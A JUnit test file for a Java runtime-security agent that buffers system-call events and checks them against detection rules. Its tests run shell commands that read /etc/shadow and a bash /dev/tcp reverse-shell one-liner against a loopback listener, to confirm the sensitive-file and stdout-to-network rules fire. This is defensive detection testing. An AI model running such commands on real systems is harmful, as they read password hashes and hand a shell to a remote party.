package dev.peregrine.agent;

import dev.peregrine.agent.output.AlertSink;
import dev.peregrine.agent.policy.Detector;
import dev.peregrine.agent.policy.Policies;
import dev.peregrine.agent.policy.TrapPlan;
import dev.peregrine.capture.LaunchSpec;
import dev.peregrine.protocol.Alert;
import dev.peregrine.protocol.Workload;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Events captured before policies arrive are kept (bounded) and evaluated once they do; once
 * policies are there, calls no rule could match skip their exit stop.
 */
class PipelineTest {
    /** As in a task: the upstream rules' {@code container} macro holds. */
    static final dev.peregrine.rules.event.ContainerRecord CONTAINER = new dev.peregrine.rules.event.ContainerRecord(
            "0123456789ab", "app", "nginx:1.27", "nginx", "1.27", null, false, 0L, null, null, null);

    private final List<Alert> alerts = new CopyOnWriteArrayList<>();
    private final AlertSink sink = alerts::add;

    private Pipeline runWithoutPolicies(int buffer) throws Exception {
        Supervisor sup = new Supervisor();
        Pipeline p = new Pipeline(Workload.UNKNOWN, null, "test-host", sink, sup, new SelfProtection(-2), buffer);
        sup.start(LaunchSpec.of(List.of("sh", "-c", "cat /etc/shadow > /dev/null; cat /etc/shadow > /dev/null"),
                TrapPlan.everything()), p);
        assertEquals(0, sup.awaitExit(Duration.ofSeconds(10)));
        return p;
    }

    @Test
    void eventsBeforeTheBundleAreEvaluatedWhenItArrives() throws Exception {
        Pipeline p = runWithoutPolicies(100_000);
        assertEquals(List.of(), alerts, "nothing can be evaluated without policies");
        p.install(new Detector(Agent.loadRules(List.of(Run.upstreamRules())), Policies.NOTIFY_ALL));
        assertEquals(2, alerts.size(), alerts.toString());
        assertTrue(alerts.stream().allMatch(a -> a.rule().equals("Read sensitive file untrusted")));
        assertEquals("/etc/shadow", alerts.getFirst().outputFields().get("fd.name"));
        assertEquals(0, p.overflow());
    }

    @Test
    void whatDoesNotFitTheBufferIsCounted() throws Exception {
        Pipeline p = runWithoutPolicies(3);
        p.install(new Detector(Agent.loadRules(List.of(Run.upstreamRules())), Policies.NOTIFY_ALL));
        assertTrue(p.overflow() > 0, "the run makes more than 3 events");
        assertTrue(alerts.size() < 2, alerts.toString());
    }

    @Test
    void callsNoRuleCouldMatchSkipTheirExitStopAndSensitiveOnesStillAlert(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws Exception {
        String script = "i=0; while [ $i -lt 30 ]; do : > " + dir + "/f$i; i=$((i+1)); done; cat /etc/shadow > /dev/null";
        Detector rules = new Detector(Agent.loadRules(List.of(Run.upstreamRules())), Policies.NOTIFY_ALL);
        long[] stops = new long[2];
        for (int run = 0; run < 2; run++) {
            alerts.clear();
            Supervisor sup = new Supervisor();
            Pipeline p = new Pipeline(Workload.UNKNOWN, CONTAINER, "test-host", sink, sup, new SelfProtection(-2), 100_000);
            if (run == 1) {
                p.install(rules);
            }
            var traps = TrapPlan.everything();
            var w = sup.start(LaunchSpec.of(List.of("sh", "-c", script), traps), p, TrapPlan.exitHookedAnyway(traps));
            assertEquals(0, sup.awaitExit(Duration.ofSeconds(20)));
            p.install(rules);
            stops[run] = w.stopCount();
            assertEquals(1, alerts.size(), alerts.toString());
            assertEquals("/etc/shadow", alerts.getFirst().outputFields().get("fd.name"));
        }
        // Without policies every open and dup2 waits for its result (the buffered events need it);
        // with the upstream rules none of the 30 creations under a temporary directory can match,
        // nor the shell's two dup2 calls around each redirection (a file, not a network connection).
        assertTrue(stops[0] - stops[1] >= 90, "stops without policies " + stops[0] + ", with " + stops[1]);
    }

    @Test
    void aReverseShellRedirectingStdoutToATcpConnectionIsCaught() throws Exception {
        Detector rules = new Detector(Agent.loadRules(List.of(Run.upstreamRules())), Policies.NOTIFY_ALL);
        try (var server = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            Thread.ofVirtual().start(() -> {
                try (var peer = server.accept()) {
                    peer.getInputStream().readAllBytes();
                } catch (java.io.IOException ignored) {
                    // the shell went away
                }
            });
            int port = server.getLocalPort();
            Supervisor sup = new Supervisor();
            Pipeline p = new Pipeline(Workload.UNKNOWN, CONTAINER, "test-host", sink, sup, new SelfProtection(-2), 10);
            p.install(rules);
            var traps = TrapPlan.connected(rules.eventTypes());
            // The classic one-liner: a TCP connection becomes the shell's stdout and stdin.
            sup.start(LaunchSpec.of(List.of("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec 1>&3 0<&3; echo hi"),
                    traps), p, TrapPlan.exitHookedAnyway(traps));
            assertEquals(0, sup.awaitExit(Duration.ofSeconds(20)));
            List<Alert> redirects = alerts.stream()
                    .filter(a -> a.rule().equals("Redirect STDOUT/STDIN to Network Connection in Container")).toList();
            assertEquals(2, redirects.size(), alerts.toString());
            Alert first = redirects.getFirst();
            assertTrue(first.output().contains("connection=127.0.0.1:"), first.output());
            assertTrue(String.valueOf(first.outputFields().get("fd.name")).endsWith("->127.0.0.1:" + port), first.toString());
            assertEquals(port, ((Number) first.outputFields().get("fd.rport")).intValue());
            assertEquals("tcp", first.outputFields().get("fd.l4proto"));
        }
    }
}
